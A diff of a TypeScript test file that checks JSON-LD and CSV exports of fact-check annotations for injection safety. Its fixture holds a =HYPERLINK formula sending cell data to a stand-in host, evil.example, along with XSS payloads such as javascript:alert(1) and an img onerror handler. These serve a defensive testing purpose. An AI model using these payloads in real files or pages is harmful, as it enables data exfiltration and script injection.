@@ -15,6 +15,7 @@ const hostile = makeAnnotation({
   verdict: 'false',
   page: { url: 'https://example.com/a', title: `=HYPERLINK("http://evil.example/?x="&A1,"click")\nBreaking ${SCRIPT}` },
   claim: { type: 'quantity', text: '@SUM(1+1)', value: 2, unit: null, approx: false, hedges: [] },
+  target: { quote: { type: 'TextQuoteSelector', exact: '@SUM(1+1)', prefix: '', suffix: '' }, position: { type: 'TextPositionSelector', start: 0, end: 9 } },
   sentence: `He said ${SCRIPT} <!-- & \u2028 line \u2029 para [click](javascript:alert(1)) <img src=x onerror=alert(1)>`,
   note: '  =1+1\nsecond line',
   evidence: [
@@ -37,12 +38,14 @@ describe('ClaimReview / JSON-LD safe to embed in <script>', () => {
 
   it('cites only http(s) evidence', () => {
     const [review] = JSON.parse(file.content);
-    expect(review.citation.map((c: { url: string }) => c.url)).toEqual(['https://good.example/report?q=<b>']);
+    // Serialised as an IRI must be: the < > of the stored link percent-encoded.
+    expect(review.citation.map((c: { url: string }) => c.url)).toEqual(['https://good.example/report?q=%3Cb%3E']);
   });
 
   it('gives the page as the appearance only when it is a web URL', () => {
     const [review] = JSON.parse(buildExport('claimreview', [{ ...hostile, page: { ...hostile.page, url: 'javascript:alert(1)' } }], { kind: 'all' }, now).content);
     expect(review.itemReviewed.appearance).not.toHaveProperty('url');
+    expect(review).not.toHaveProperty('url');
     expect(JSON.parse(file.content)[0].itemReviewed.appearance.url).toBe('https://example.com/a');
   });
 
@@ -70,8 +73,8 @@ describe('CSV formula guard on every cell', () => {
 
   it('neutralises cells opening with blanks, tab or CR before = + - @', () => {
     expect(row.note).toBe("'  =1+1\nsecond line");
-    expect(row.claim).toBe("'@SUM(1+1)");
-    expect(row.tags).toBe("'-2+3; \tcmd");
+    expect(row.quote).toBe("'@SUM(1+1)");
+    expect(row.tags).toBe("'-2+3, \tcmd");
   });
 
   it.each([
